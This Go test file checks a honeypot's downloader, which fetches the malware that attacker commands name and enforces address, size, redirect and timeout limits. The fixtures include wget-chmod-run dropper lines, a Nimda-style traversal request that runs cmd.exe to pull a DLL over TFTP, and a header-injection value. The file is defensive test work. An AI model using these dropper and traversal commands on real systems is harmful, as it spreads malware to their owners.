package download

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"go.uber.org/goleak"

	"github.com/smallpot/smallpot/internal/event"
	"github.com/smallpot/smallpot/internal/pipeline"
	"github.com/smallpot/smallpot/internal/service"
)

// Every test's downloader and servers are stopped by the end of the test.
func TestMain(m *testing.M) {
	goleak.VerifyTestMain(m)
}

// Nothing in these tests connects anywhere but 127.0.0.1: servers listen
// there, and every other address named is one the policy refuses before
// it is dialled (which the dial hook checks).

type memStore struct {
	mu sync.Mutex
	m  map[string][]byte
}

func (s *memStore) Put(data []byte, d service.Digest) (bool, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if _, ok := s.m[d.SHA256]; ok {
		return false, nil
	}
	s.m[d.SHA256] = bytes.Clone(data)
	return true, nil
}

func (s *memStore) get(sha string) []byte {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.m[sha]
}

type collector struct {
	mu  sync.Mutex
	evs []*event.Event
}

func (c *collector) emit(e *event.Event) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.evs = append(c.evs, e)
}

func (c *collector) of(k event.Kind) []*event.Event {
	c.mu.Lock()
	defer c.mu.Unlock()
	var out []*event.Event
	for _, e := range c.evs {
		if e.Kind == k {
			out = append(out, e)
		}
	}
	return out
}

// fetches waits for n fetch events.
func (c *collector) fetches(t *testing.T, n int) []*event.Event {
	t.Helper()
	deadline := time.Now().Add(20 * time.Second)
	for {
		got := c.of(event.KindFetch)
		if len(got) >= n {
			return got
		}
		if time.Now().After(deadline) {
			t.Fatalf("got %d fetch events; want %d", len(got), n)
		}
		time.Sleep(10 * time.Millisecond)
	}
}

type harness struct {
	s      *Sink
	c      *collector
	store  *memStore
	mu     sync.Mutex
	dialed []netip.AddrPort
}

func (h *harness) dials() []netip.AddrPort {
	h.mu.Lock()
	defer h.mu.Unlock()
	return append([]netip.AddrPort(nil), h.dialed...)
}

func newHarness(t *testing.T, mod func(*Config)) *harness {
	t.Helper()
	cfg := Defaults()
	cfg.Enabled = true
	cfg.AllowLoopback = true
	cfg.Timeout = 10 * time.Second
	cfg.PerMinute, cfg.Burst = 60000, 100
	if mod != nil {
		mod(&cfg)
	}
	h := &harness{c: &collector{}, store: &memStore{m: map[string][]byte{}}}
	s, err := New(cfg, h.store, h.c.emit, slog.New(slog.DiscardHandler))
	if err != nil {
		t.Fatal(err)
	}
	s.tftpWait = 100 * time.Millisecond
	s.dialed = func(a netip.AddrPort) {
		h.mu.Lock()
		defer h.mu.Unlock()
		h.dialed = append(h.dialed, a)
	}
	h.s = s
	t.Cleanup(func() { s.Close() })
	return h
}

var sessionN atomic.Int64

// ev builds an event of a session of service svc.
func ev(svc string, d event.Detail) *event.Event {
	now := time.Now()
	return &event.Event{ID: event.NewID(now), Time: now, Sensor: "pot-1",
		Session: fmt.Sprintf("session-%d", sessionN.Add(1)), Service: svc, Transport: event.TCP,
		Src: netip.MustParseAddrPort("203.0.113.7:40122"), Dst: netip.MustParseAddrPort("192.0.2.10:80"),
		Kind: d.Kind(), Detail: d}
}

func (h *harness) write(t *testing.T, evs ...*event.Event) {
	t.Helper()
	var batch []pipeline.Record
	for _, e := range evs {
		b, err := e.MarshalJSON()
		if err != nil {
			t.Fatal(err)
		}
		batch = append(batch, pipeline.Record{Event: e, JSON: b})
	}
	if err := h.s.Write(context.Background(), batch); err != nil {
		t.Fatalf("Write: %v", err)
	}
}

func sum(b []byte) string {
	s := sha256.Sum256(b)
	return hex.EncodeToString(s[:])
}

// checkKept checks that f is an ok fetch whose sample holds want and is
// linked to the session of of.
func (h *harness) checkKept(t *testing.T, of *event.Event, want []byte, source, name string) {
	t.Helper()
	var fetch *event.Event
	for _, e := range h.c.of(event.KindFetch) {
		if e.Detail.(*event.Fetch).Of == of.ID {
			fetch = e
		}
	}
	if fetch == nil {
		t.Fatalf("no fetch event of %s", of.ID)
	}
	f := fetch.Detail.(*event.Fetch)
	if f.Status != event.FetchOK || f.SHA256 != sum(want) || f.Size != int64(len(want)) {
		t.Fatalf("got fetch %+v; want ok, %d bytes, sha256 %s", f, len(want), sum(want))
	}
	if !bytes.Equal(h.store.get(f.SHA256), want) {
		t.Errorf("the store does not hold the file")
	}
	var sample *event.Event
	for _, e := range h.c.of(event.KindSample) {
		if e.Detail.(*event.Sample).SHA256 == f.SHA256 && e.Session == of.Session {
			sample = e
		}
	}
	if sample == nil {
		t.Fatalf("no sample event %s in session %s", f.SHA256, of.Session)
	}
	for _, e := range []*event.Event{fetch, sample} {
		if e.Session != of.Session || e.Service != of.Service || e.Src != of.Src || e.Dst != of.Dst || e.Sensor != of.Sensor {
			t.Errorf("%s event envelope %s/%s/%v/%v; want that of the naming event %s/%s/%v/%v",
				e.Kind, e.Session, e.Service, e.Src, e.Dst, of.Session, of.Service, of.Src, of.Dst)
		}
	}
	sd := sample.Detail.(*event.Sample)
	if sd.Source != source || sd.Name != name || !sd.New || sd.Size != int64(len(want)) {
		t.Errorf("got sample %+v; want source %s, name %s, new, %d bytes", sd, source, name, len(want))
	}
}

const script = "#!/bin/sh\ncd /tmp; wget http://198.51.100.3/bins/mips; chmod 777 mips; ./mips telnet\n"

func TestHTTPFromWgetCommand(t *testing.T) {
	var hits atomic.Int64
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		if r.URL.Path != "/x.sh" || r.Header.Get("User-Agent") != "Wget/1.21.3" {
			http.NotFound(w, r)
			return
		}
		io.WriteString(w, script)
	}))
	defer srv.Close()
	h := newHarness(t, nil)
	cmd := ev("telnet", &event.Command{Line: "cd /tmp || cd /var/run; wget " + srv.URL + "/x.sh; chmod +x x.sh; sh x.sh", Shell: "busybox"})
	h.write(t, cmd)
	f := h.c.fetches(t, 1)[0].Detail.(*event.Fetch)
	h.checkKept(t, cmd, []byte(script), "download.http", "x.sh")
	if f.URL != srv.URL+"/x.sh" || f.Protocol != "http" || f.Address != strings.TrimPrefix(srv.URL, "http://") {
		t.Errorf("got fetch %+v; want url %s/x.sh, protocol http, address of the server", f, srv.URL)
	}
	// The script names another file; the downloader does not follow the
	// files it fetched.
	if n := hits.Load(); n != 1 {
		t.Errorf("server got %d requests; want 1", n)
	}
}

func TestTFTPNimda(t *testing.T) {
	dll := bytes.Repeat([]byte("MZ\x90\x00Nimda"), 700) // 6300 bytes: 13 blocks, the last short
	block := bytes.Repeat([]byte{0xcc}, 1024)           // a multiple of 512: an empty last block
	srv := startTFTP(t, map[string][]byte{"Admin.dll": dll, "b.bin": block}, true)
	h := newHarness(t, nil)
	// TFTP has no port in the command line; the server runs on a high
	// port, which the test makes tftp's.
	h.s.ports = map[string]int{"tftp": srv.port()}
	nimda := ev("http", &event.Request{Method: "GET",
		URI:   "/scripts/..%255c../winnt/system32/cmd.exe?/c+tftp%20-i%20127.0.0.1%20GET%20Admin.dll%20c:\\Admin.dll",
		Path:  `/scripts/..\../winnt/system32/cmd.exe`,
		Query: "/c+tftp%20-i%20127.0.0.1%20GET%20Admin.dll%20c:\\Admin.dll", Version: "HTTP/1.0"})
	intent := ev("telnet", &event.Download{URL: fmt.Sprintf("tftp://127.0.0.1:%d/b.bin", srv.port()),
		Protocol: "tftp", Host: fmt.Sprintf("127.0.0.1:%d", srv.port()), Path: "/b.bin", Command: "tftp -g -r b.bin 127.0.0.1"})
	h.write(t, nimda, intent)
	h.c.fetches(t, 2)
	h.checkKept(t, nimda, dll, "download.tftp", "Admin.dll")
	h.checkKept(t, intent, block, "download.tftp", "b.bin")
	rr := h.s.Stats()
	if rr.OK != 2 || rr.Failed != 0 {
		t.Errorf("got stats %+v; want 2 ok", rr)
	}
	// The first read request was lost: it was sent again.
	if n := len(srv.requests()); n < 3 {
		t.Errorf("server saw %d read requests (%v); want the lost one sent again", n, srv.requests())
	}
}

func TestTFTPNotFound(t *testing.T) {
	srv := startTFTP(t, nil, false)
	h := newHarness(t, nil)
	h.write(t, ev("telnet", &event.Download{URL: fmt.Sprintf("tftp://127.0.0.1:%d/nope", srv.port())}))
	f := h.c.fetches(t, 1)[0].Detail.(*event.Fetch)
	if f.Status != event.FetchFailed || f.Reason != "tftp error 1: File not found" {
		t.Errorf("got %+v; want failed with the server's error", f)
	}
}

func TestTFTPNoAnswer(t *testing.T) {
	h := newHarness(t, nil)
	silent := startSilentUDP(t)
	h.write(t, ev("telnet", &event.Download{URL: fmt.Sprintf("tftp://127.0.0.1:%d/x", silent)}))
	f := h.c.fetches(t, 1)[0].Detail.(*event.Fetch)
	if f.Status != event.FetchFailed || f.Reason != "tftp: no answer" {
		t.Errorf("got %+v; want failed: no answer", f)
	}
}

func TestFTP(t *testing.T) {
	bin := bytes.Repeat([]byte("\x7fELF mips "), 3000)
	srv := startFTP(t, map[string][]byte{"bins/mips": bin, "m": []byte("m file")})
	h := newHarness(t, nil)
	intent := ev("telnet", &event.Download{URL: fmt.Sprintf("ftp://127.0.0.1:%d/bins/mips", srv.port()), Protocol: "ftp"})
	cmd := ev("telnet", &event.Command{Line: fmt.Sprintf("ftpget -v -u bob -p s3cret -P %d 127.0.0.1 m m; ./m", srv.port())})
	h.write(t, intent, cmd)
	h.c.fetches(t, 2)
	h.checkKept(t, intent, bin, "download.ftp", "mips")
	h.checkKept(t, cmd, []byte("m file"), "download.ftp", "m")
	logins := strings.Join(srv.seen(), " ")
	if !strings.Contains(logins, "anonymous:anonymous@") || !strings.Contains(logins, "bob:s3cret") {
		t.Errorf("server saw logins %q; want anonymous and bob", logins)
	}
	// The PASV reply named 10.9.9.9: only 127.0.0.1 was dialled.
	for _, a := range h.dials() {
		if a.Addr() != netip.MustParseAddr("127.0.0.1") {
			t.Errorf("dialled %v; want only 127.0.0.1", a)
		}
	}
}

func TestRefused(t *testing.T) {
	var hits atomic.Int64
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		io.WriteString(w, "x")
	}))
	defer srv.Close()
	port := strings.TrimPrefix(srv.URL, "http://127.0.0.1:")

	tests := []struct {
		name     string
		loopback bool
		url      string
		reason   string
	}{
		{"private literal", true, "http://10.1.2.3/x.sh", "private address 10.1.2.3"},
		{"private tftp", true, "tftp://192.168.1.20/Admin.dll", "private address 192.168.1.20"},
		{"link-local metadata", true, "http://169.254.169.254/latest/meta-data/", "link-local address 169.254.169.254"},
		{"cgnat", true, "ftp://100.64.1.1/x", "shared (CGNAT) address 100.64.1.1"},
		{"ula", true, "http://[fd00::1]/x", "private address fd00::1"},
		{"mapped private", true, "http://[::ffff:10.0.0.5]/x", "private address 10.0.0.5"},
		{"nat64 loopback", false, "http://[64:ff9b::7f00:1]/x", "loopback address 127.0.0.1"},
		{"multicast", true, "tftp://224.0.0.1/x", "multicast address 224.0.0.1"},
		{"unspecified", true, "http://0.0.0.0:" + port + "/x", "unspecified address 0.0.0.0"},
		{"sensor itself", true, "http://192.0.2.10/x", "the sensor's own address 192.0.2.10"},
		{"loopback literal", false, srv.URL + "/x.sh", "loopback address 127.0.0.1"},
		// A name is checked as it is dialled: what it resolves to is
		// refused, so DNS cannot lead around the check.
		{"loopback by name", false, "http://localhost:" + port + "/x.sh", "loopback address"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			h := newHarness(t, func(c *Config) { c.AllowLoopback = tt.loopback })
			intent := ev("http", &event.Download{URL: tt.url})
			h.write(t, intent)
			fe := h.c.fetches(t, 1)[0]
			f := fe.Detail.(*event.Fetch)
			if f.Status != event.FetchRefused || !strings.Contains(f.Reason, tt.reason) {
				t.Errorf("got %s %q; want refused %q", f.Status, f.Reason, tt.reason)
			}
			if fe.Session != intent.Session || f.Of != intent.ID || f.URL != tt.url {
				t.Errorf("got fetch %+v in session %s; want it linked to %s", f, fe.Session, intent.Session)
			}
			if d := h.dials(); len(d) != 0 {
				t.Errorf("dialled %v; want nothing", d)
			}
			if n := len(h.c.of(event.KindSample)); n != 0 {
				t.Errorf("got %d samples; want none", n)
			}
			if st := h.s.Stats(); st.Refused != 1 {
				t.Errorf("got stats %+v; want 1 refused", st)
			}
		})
	}
	if n := hits.Load(); n != 0 {
		t.Errorf("server got %d requests; want none", n)
	}
}

func TestRedirects(t *testing.T) {
	mux := http.NewServeMux()
	mux.HandleFunc("/a", func(w http.ResponseWriter, r *http.Request) { http.Redirect(w, r, "/b", http.StatusFound) })
	mux.HandleFunc("/b", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "/x.sh", http.StatusMovedPermanently)
	})
	mux.HandleFunc("/x.sh", func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, script) })
	mux.HandleFunc("/private", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "http://10.0.0.1/x.sh", http.StatusFound)
	})
	mux.HandleFunc("/private-ftp", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "ftp://127.0.0.1/x", http.StatusFound)
	})
	srv := httptest.NewServer(mux)
	defer srv.Close()

	t.Run("followed", func(t *testing.T) {
		h := newHarness(t, nil)
		e := ev("http", &event.Download{URL: srv.URL + "/a"})
		h.write(t, e)
		f := h.c.fetches(t, 1)[0].Detail.(*event.Fetch)
		h.checkKept(t, e, []byte(script), "download.http", "a")
		if f.Redirects != 2 || f.FinalURL != srv.URL+"/x.sh" {
			t.Errorf("got %d redirects to %q; want 2 to %s/x.sh", f.Redirects, f.FinalURL, srv.URL)
		}
	})
	t.Run("too many", func(t *testing.T) {
		h := newHarness(t, func(c *Config) { c.MaxRedirects = 1 })
		h.write(t, ev("http", &event.Download{URL: srv.URL + "/a"}))
		f := h.c.fetches(t, 1)[0].Detail.(*event.Fetch)
		if f.Status != event.FetchFailed || f.Reason != "too many redirects" {
			t.Errorf("got %s %q; want failed: too many redirects", f.Status, f.Reason)
		}
	})
	t.Run("to a private address", func(t *testing.T) {
		h := newHarness(t, nil)
		h.write(t, ev("http", &event.Download{URL: srv.URL + "/private"}))
		f := h.c.fetches(t, 1)[0].Detail.(*event.Fetch)
		if f.Status != event.FetchRefused || f.Reason != "private address 10.0.0.1" {
			t.Errorf("got %s %q; want refused: private address 10.0.0.1", f.Status, f.Reason)
		}
		for _, a := range h.dials() {
			if a.Addr() != netip.MustParseAddr("127.0.0.1") {
				t.Errorf("dialled %v; want only the first server", a)
			}
		}
	})
	t.Run("to another scheme", func(t *testing.T) {
		h := newHarness(t, nil)
		h.write(t, ev("http", &event.Download{URL: srv.URL + "/private-ftp"}))
		f := h.c.fetches(t, 1)[0].Detail.(*event.Fetch)
		if f.Status != event.FetchRefused || !strings.Contains(f.Reason, `redirect to a "ftp" URL`) {
			t.Errorf("got %s %q; want refused: redirect to ftp", f.Status, f.Reason)
		}
	})
}

func TestSizeCap(t *testing.T) {
	big := bytes.Repeat([]byte("A"), 2048)
	mux := http.NewServeMux()
	mux.HandleFunc("/length", func(w http.ResponseWriter, r *http.Request) { w.Write(big) })
	mux.HandleFunc("/chunked", func(w http.ResponseWriter, r *http.Request) {
		for i := 0; i < 4; i++ {
			w.Write(big[:512])
			w.(http.Flusher).Flush()
		}
	})
	mux.HandleFunc("/fits", func(w http.ResponseWriter, r *http.Request) { w.Write(big[:1024]) })
	srv := httptest.NewServer(mux)
	defer srv.Close()
	tsrv := startTFTP(t, map[string][]byte{"big": big}, false)
	fsrv := startFTP(t, map[string][]byte{"big": big})

	h := newHarness(t, func(c *Config) { c.MaxSize = 1024 })
	h.write(t,
		ev("http", &event.Download{URL: srv.URL + "/length"}),
		ev("http", &event.Download{URL: srv.URL + "/chunked"}),
		ev("http", &event.Download{URL: fmt.Sprintf("tftp://127.0.0.1:%d/big", tsrv.port())}),
		ev("http", &event.Download{URL: fmt.Sprintf("ftp://127.0.0.1:%d/big", fsrv.port())}),
		ev("http", &event.Download{URL: srv.URL + "/fits"}),
	)
	for _, e := range h.c.fetches(t, 5) {
		f := e.Detail.(*event.Fetch)
		if strings.HasSuffix(f.URL, "/fits") {
			if f.Status != event.FetchOK || f.Size != 1024 {
				t.Errorf("%s: got %s %d bytes; want ok, 1024 bytes", f.URL, f.Status, f.Size)
			}
			continue
		}
		if f.Status != event.FetchFailed || f.Reason != "too large: over max_size 1KiB" {
			t.Errorf("%s: got %s %q; want failed: too large", f.URL, f.Status, f.Reason)
		}
	}
	if n := len(h.c.of(event.KindSample)); n != 1 {
		t.Errorf("got %d samples; want 1", n)
	}
}

func TestTimeout(t *testing.T) {
	release := make(chan struct{})
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Length", "100")
		w.Write([]byte("partial"))
		w.(http.Flusher).Flush()
		select {
		case <-r.Context().Done():
		case <-release:
		}
	}))
	defer srv.Close()
	defer close(release)
	h := newHarness(t, func(c *Config) { c.Timeout = 300 * time.Millisecond })
	h.write(t, ev("http", &event.Download{URL: srv.URL + "/slow"}))
	f := h.c.fetches(t, 1)[0].Detail.(*event.Fetch)
	if f.Status != event.FetchFailed || f.Reason != "timeout" {
		t.Errorf("got %s %q; want failed: timeout", f.Status, f.Reason)
	}
}

func TestHTTPStatus(t *testing.T) {
	srv := httptest.NewServer(http.NotFoundHandler())
	defer srv.Close()
	h := newHarness(t, nil)
	h.write(t, ev("http", &event.Download{URL: srv.URL + "/gone.exe"}))
	f := h.c.fetches(t, 1)[0].Detail.(*event.Fetch)
	if f.Status != event.FetchFailed || f.Reason != "http status 404" {
		t.Errorf("got %s %q; want failed: http status 404", f.Status, f.Reason)
	}
}

func TestRepeatsAndOwnEvents(t *testing.T) {
	var hits atomic.Int64
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		io.WriteString(w, "payload "+r.URL.Path)
	}))
	defer srv.Close()
	h := newHarness(t, nil)
	u := srv.URL + "/bot.arm7"
	h.write(t, ev("telnet", &event.Download{URL: u}), ev("ssh", &event.Command{Line: "wget " + u}))
	h.c.fetches(t, 1)
	// The downloader's own events, given back to it, name nothing.
	h.write(t, h.c.of(event.KindFetch)...)
	h.write(t, h.c.of(event.KindSample)...)
	h.write(t, ev("telnet", &event.Download{URL: u}))
	if err := h.s.Close(); err != nil {
		t.Fatal(err)
	}
	st := h.s.Stats()
	if st.Queued != 1 || st.Repeats != 2 || hits.Load() != 1 {
		t.Errorf("got stats %+v and %d requests; want 1 queued, 2 repeats, 1 request", st, hits.Load())
	}
}

func TestWriteNeverBlocks(t *testing.T) {
	release := make(chan struct{})
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		select {
		case <-r.Context().Done():
		case <-release:
		}
	}))
	defer srv.Close()
	defer close(release)
	h := newHarness(t, func(c *Config) { c.Concurrency, c.Queue = 1, 2 })
	done := make(chan struct{})
	go func() {
		defer close(done)
		for i := range 50 {
			h.write(t, ev("telnet", &event.Command{Line: fmt.Sprintf("wget %s/f%d", srv.URL, i)}))
		}
	}()
	select {
	case <-done:
	case <-time.After(20 * time.Second):
		t.Fatal("Write blocked behind a stalled fetch")
	}
	if st := h.s.Stats(); st.Dropped < 40 {
		t.Errorf("got stats %+v; want most fetches dropped", st)
	}
	// Close abandons the stalled fetch.
	closed := make(chan struct{})
	go func() { h.s.Close(); close(closed) }()
	select {
	case <-closed:
	case <-time.After(20 * time.Second):
		t.Fatal("Close waited for a stalled fetch")
	}
}

func TestDisabledProtocol(t *testing.T) {
	h := newHarness(t, func(c *Config) { c.Protocols = []string{"http"} })
	h.write(t, ev("telnet", &event.Download{URL: "tftp://198.51.100.1/x"}))
	h.s.Close()
	if st, n := h.s.Stats(), len(h.c.of(event.KindFetch)); st.Queued != 0 || st.Refused != 0 || n != 0 {
		t.Errorf("got stats %+v, %d fetch events; want nothing done", st, n)
	}
}

func TestConfig(t *testing.T) {
	d := Defaults()
	if err := d.Validate(); err != nil {
		t.Fatalf("defaults: %v", err)
	}
	if d.Enabled || d.AllowLoopback || d.AllowPrivate {
		t.Errorf("defaults %+v; want off, no loopback, no private", d)
	}
	bad := []func(*Config){
		func(c *Config) { c.Protocols = []string{"gopher"} },
		func(c *Config) { c.MaxSize = 0 },
		func(c *Config) { c.Timeout = 0 },
		func(c *Config) { c.MaxRedirects = -1 },
		func(c *Config) { c.Concurrency = 0 },
		func(c *Config) { c.PerMinute = 0 },
		func(c *Config) { c.Burst = 0 },
		func(c *Config) { c.Queue = 0 },
		func(c *Config) { c.RememberFor = 0 },
		func(c *Config) { c.UserAgent = "a\r\nX-Injected: 1" },
	}
	for i, mod := range bad {
		c := Defaults()
		mod(&c)
		if err := c.Validate(); err == nil {
			t.Errorf("case %d: got no error for %+v", i, c)
		}
		if _, err := New(c, &memStore{}, func(*event.Event) {}, nil); err == nil {
			t.Errorf("case %d: New accepted an invalid config", i)
		}
	}
}
